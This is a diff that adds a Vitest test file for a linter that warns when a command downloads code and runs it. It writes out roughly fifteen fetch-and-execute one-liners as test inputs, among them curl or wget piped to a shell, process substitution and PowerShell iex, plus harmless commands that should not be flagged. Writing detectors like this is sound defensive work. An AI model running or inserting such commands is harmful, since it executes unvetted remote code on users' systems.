@@ -1,0 +1,47 @@
+import { describe, expect, it } from 'vitest';
+import { lintPipedShell } from './lint-piped-shell.ts';
+
+describe('a command that runs what it downloads', () => {
+  it.each([
+    'curl https://x.example | sh',
+    'curl -fsSL https://x.example/install.sh | sudo -E bash -s -- --yes',
+    'wget -qO- https://x.example |bash',
+    'curl x | tee log | /bin/sh',
+    'curl x \\\n  | sh',
+    'curl x \\\r\n  | python3 -',
+    'echo aGk= | base64 -d | sh',
+    'bash <(curl -s https://x.example)',
+    'source <(curl x)',
+    '. <(curl x)',
+    'sh -c "$(curl -fsSL https://x.example)"',
+    'eval "$(wget -qO- x)"',
+    "execSync('curl https://x.example | sh')",
+    'irm https://x.example | iex',
+    'iex (iwr https://x.example)',
+  ])('is found: %j', (command) => {
+    expect(lintPipedShell(`First.\n${command}\nLast.\n`, 'a.md')).toMatchObject([
+      { rule: 'capsule.piped_shell', severity: 'warning', where: 'a.md:2' },
+    ]);
+  });
+
+  it.each([
+    'curl -o file https://x.example',
+    'curl https://x.example | jq .name',
+    'curl x\n\n| sh | the shell |',
+    'git log | head',
+    'diff <(curl a) <(curl b)',
+    'The shell pipes | shells.',
+    'curl x | shuf | sort',
+  ])('is not %j', (command) => {
+    expect(lintPipedShell(command, 'a.md')).toEqual([]);
+  });
+
+  it('is found in linear time, and bounded', () => {
+    const begun = performance.now();
+    for (const text of ['curl ', 'curl |', 'sh -c ', 'source ', 'iex (']) {
+      expect(lintPipedShell(text.repeat(200_000 / text.length), 'a.md')).toEqual([]);
+    }
+    expect(performance.now() - begun).toBeLessThan(5_000);
+    expect(lintPipedShell('curl x | sh\n'.repeat(100), 'a.md')).toHaveLength(5);
+  });
+});
